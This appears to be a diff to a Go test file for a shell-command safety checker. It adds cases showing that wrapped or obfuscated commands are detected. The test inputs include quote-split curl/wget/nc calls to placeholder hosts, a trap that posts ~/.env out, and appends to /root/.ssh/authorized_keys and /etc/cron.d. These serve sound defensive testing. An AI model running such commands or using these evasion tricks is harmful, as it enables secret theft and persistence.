@@ -65,6 +65,13 @@ func TestCheckReadsShellAsAShellDoes(t *testing.T) {
 		{"env python3 -c", "env", []string{"python3", "-Ic", "open('/root/.ssh/authorized_keys','a')"}, []string{persistIn("python3", "env → python3 -c")}},
 		{"node -e", "node", []string{"--eval", "require('child_process').execSync('wget u')"}, []string{egressIn("node", "node -e")}},
 		{"perl -e", "perl", []string{"-le", "system q(nc h 1)"}, []string{egressIn("perl", "perl -e")}},
+		{"find -exec sh -c", "bash", []string{"-c", `find . -exec sh -c 'c""url u' \;`}, []string{egressIn("sh", "bash -c → find → sh -c")}},
+		{"docker run sh -c", "docker", []string{"run", "--rm", "alpine", "sh", "-c", "echo k >> /root/.ssh/authorized_keys"},
+			[]string{persistIn("sh", "docker → sh -c")}},
+		{"env -", "env", []string{"-", "bash", "-c", `c""url u`}, []string{egressIn("bash", "env → bash -c")}},
+		{"trap text", "bash", []string{"-c", `trap 'c""url -d @~/.e""nv u' EXIT; exec node x.js`}, []string{exfilIn("bash", "bash -c → trap (argument)")}},
+		{"source of stdin", "bash", []string{"-c", `source /dev/stdin <<< 'w""get u'`}, []string{exfilIn("bash", "bash -c → source (stdin)")}},
+		{"cat here-document piped into a shell", "bash", []string{"-c", "cat <<'E' | sh -s\nc\"\"url u\nE"}, []string{exfilIn("sh", "bash -c → sh (stdin)")}},
 		{"a wrapper option hides the shell", "env", []string{"--new-option", "bash", "-c", "curl u"}, []string{egressIn("bash", "env → bash -c")}},
 
 		// Item 6: quoting.
@@ -87,7 +94,7 @@ func TestCheckReadsShellAsAShellDoes(t *testing.T) {
 		{"eval", "bash", []string{"-c", `eval 'c""url u'`}, []string{egressIn("bash", "bash -c → eval")}},
 		{"here-document into a shell", "bash", []string{"-c", "sh <<'EOF'\nc\"\"url u\nEOF"}, []string{exfilIn("sh", "bash -c → sh (stdin)")}}, // "<<" is what the original reads as an input redirection
 		{"here-string into a shell", "bash", []string{"-c", `bash <<< 'c""url u'`}, []string{exfilIn("bash", "bash -c → bash (stdin)")}},
-		{"echo piped into a shell", "bash", []string{"-c", `echo 'c""url u' | sh`}, []string{egressIn("sh", "bash -c → sh (stdin)")}},
+		{"echo piped into a shell", "bash", []string{"-c", `echo 'c""url u' | sh`}, []string{egressIn("bash", "bash -c → echo (argument)")}},
 		{"python inside sh", "sh", []string{"-c", `python3 -c "import os; os.system('cu'+'rl u')" ; exec python -c 'print(open(\"/etc/cron.d/x\"))'`},
 			[]string{msg(persistMsg, "sh")}}, // the shell's own args show it: the original's message
 		{"python behind a wrapper inside sh", "sh", []string{"-c", `n""ice python3 -c "import os; os.system('c""url u')"`},
@@ -128,6 +135,7 @@ func TestCheckFailsClosed(t *testing.T) {
 		{"command name from positional args", "sh", []string{"-c", `"$@"`, "sh", "curl", "u"}, `a command's name is only known when it runs ("")`},
 		{"command name from a glob", "sh", []string{"-c", `/usr/bin/cur? u`}, `a command's name is only known when it runs ("/usr/bin/cur?")`},
 		{"shell text from a variable", "bash", []string{"-c", `sh -c "$P"`}, `the text given to sh -c is only known when it runs ("")`},
+		{"piped into a shell", "bash", []string{"-c", `echo 'sh -c "$X"' | sh`}, `the text given to sh -c is only known when it runs ("")`},
 		{"brace bomb", "bash", []string{"-c", "echo " + strings.Repeat("{a,b}", 40)}, "a brace expansion makes more than 256 words"},
 		{"env -S does not parse", "env", []string{"-S", "sh -c 'x"}, "its shell text does not parse (1:7: reached EOF without closing quote `'`)"},
 	}
